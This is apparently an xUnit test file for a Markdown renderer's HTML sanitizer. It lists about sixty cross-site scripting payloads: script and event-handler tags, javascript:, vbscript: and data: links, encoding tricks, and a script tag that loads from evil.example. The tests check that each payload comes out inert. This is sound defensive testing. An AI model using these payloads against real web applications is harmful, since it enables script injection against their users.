namespace Sozialinfo.Knowledge.Markdown.Tests.Sanitizing;

public sealed class XssPayloadTests
{
    public static TheoryData<string> Payloads { get; } = new(
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<<script>script>alert(1)<</script>/script>",
        "<img src=x onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<IMG SRC=x OnErRoR=alert(1)//",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<style>@import 'javascript:alert(1)';</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"width: expression(alert(1))\">x</p>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript:alert(1) \"Titel\")",
        "[x](<javascript:alert(1)>)",
        "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&#x09;script:alert(1))",
        "[x](&#x01;javascript:alert(1))",
        "[x](%6A%61%76%61script:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](VBScript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](DATA:text/html,<script>alert(1)</script>)",
        "[x](https://example.org \"a\\\" onmouseover=\\\"alert(1)\")",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](mailto:a@example.org)",
        "![x](https://example.org/x.png\"onerror=\"alert(1))",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        "[x][ref]\n\n[ref]: <javascript:alert(1)> \"Titel\"",
        "![x][img]\n\n[img]: data:image/png;base64,iVBORw0KGgo=",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "www.example.org/\"onmouseover=\"alert(1)",
        "## <img src=x onerror=alert(1)>",
        "| <script>alert(1)</script> | x |\n|---|---|\n| [a](javascript:alert(1)) | b |",
        "Text[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
        "*[HTML]: <script>alert(1)</script>\" onmouseover=\"alert(1)\n\nHTML",
        "- [x] <img src=x onerror=alert(1)>",
        "Begriff\n:   <iframe src=javascript:alert(1)>",
        "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    ]);

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Render_XssPayload_LeavesNothingExecutable(string markdown)
    {
        var html = KnowledgeMarkdown.Render(markdown).Html;

        HtmlSafetyAssert.IsSafe(html);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>", "<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>")]
    [InlineData("&#60;img src=x&#62;", "<img src=x>")]
    public void Render_RawHtml_IsShownAsText(string markdown, string visibleText)
    {
        var html = KnowledgeMarkdown.Render(markdown).Html;

        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);
        Assert.Contains(visibleText, document.Body!.TextContent, StringComparison.Ordinal);
        Assert.Empty(document.Body.QuerySelectorAll("script, img"));
    }

    [Theory]
    [InlineData("javascript:alert(1)", "javascript")]
    [InlineData(" \u0001JaVa\tScRiPt:alert(1)", "javascript")]
    [InlineData("https://example.org/a:b", "https")]
    [InlineData("/dossiers/a:b/", null)]
    [InlineData("#fn:1", null)]
    [InlineData("%6Aavascript:alert(1)", null)]
    public void SchemeOf_Url_ReadsSchemeAsBrowsers(string url, string? expected)
    {
        Assert.Equal(expected, HtmlSafetyAssert.SchemeOf(url));
    }

    [Theory]
    [InlineData("<p><script>alert(1)</script></p>")]
    [InlineData("<p onclick=\"x\">a</p>")]
    [InlineData("<a href=\" java\tscript:alert(1)\">a</a>")]
    [InlineData("<img src=\"data:image/png;base64,AA\">")]
    [InlineData("<p style=\"color: red\">a</p>")]
    [InlineData("<svg></svg>")]
    public void IsSafe_UnsafeHtml_Fails(string html)
    {
        Assert.ThrowsAny<Xunit.Sdk.XunitException>(() => HtmlSafetyAssert.IsSafe(html));
    }
}
